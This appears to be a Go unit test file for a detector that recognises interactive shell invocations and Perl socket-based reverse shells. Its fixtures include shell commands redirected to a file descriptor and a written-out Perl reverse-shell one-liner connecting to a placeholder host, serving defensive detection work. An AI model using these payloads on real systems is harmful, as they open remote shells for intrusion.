package parse

import (
	"strings"
	"testing"
)

func TestInteractiveShell(t *testing.T) {
	for _, c := range []struct {
		line string
		want bool
	}{
		{"/bin/sh -i", true},
		{"bash", true},
		{"/bin/sh -i <&3 >&3 2>&3", true},
		{"sh -i <&${_interp} >&${_interp}", true},
		{"bash -c id", false},
		{"sh -ec make", false},
		{"sh build.sh", false},
		{"python3 -i", false},
		{"ls -la", false},
		{"", false},
	} {
		if got := interactiveShell(strings.Fields(c.line)); got != c.want {
			t.Errorf("interactiveShell(%q) = %v, want %v", c.line, got, c.want)
		}
	}
}

func TestPerlSocketShell(t *testing.T) {
	for _, c := range []struct {
		code string
		want bool
	}{
		{`use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");`, true},
		{`use IO::Socket; $c=IO::Socket::INET->new("h:1"); system("bash")`, true},
		{`use Socket; print "ok\n"`, false},
		{`exec("/bin/sh -i")`, false},
		{`use Socket; system("make test")`, false},
	} {
		if got := perlSocketShell(c.code); got != c.want {
			t.Errorf("perlSocketShell(%q) = %v, want %v", c.code, got, c.want)
		}
	}
}

